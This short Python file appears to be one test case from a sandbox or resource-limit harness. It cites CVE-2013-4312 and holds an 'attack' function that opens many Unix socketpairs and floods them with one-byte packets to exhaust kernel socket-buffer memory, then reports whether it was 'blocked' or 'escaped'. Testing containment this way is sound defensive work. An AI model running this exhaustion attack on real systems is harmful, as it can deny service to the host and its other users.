"""Queue packets of one byte, each of which costs the kernel several hundred.

origin: truesize of a socket buffer; CVE-2013-4312 and its kind
why: what is counted as bytes is not what is held
control: succeeds
"""

import socket


def attack(target):
    kept, queued = [], 0
    try:
        while queued < 50_000:
            ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
            ours.setblocking(False)
            kept += [ours, theirs]
            try:
                while True:
                    queued += ours.send(b"x")
            except BlockingIOError:
                pass
    except OSError as error:
        return blocked("socketpair", error)
    return escaped(f"{queued} packets are queued")
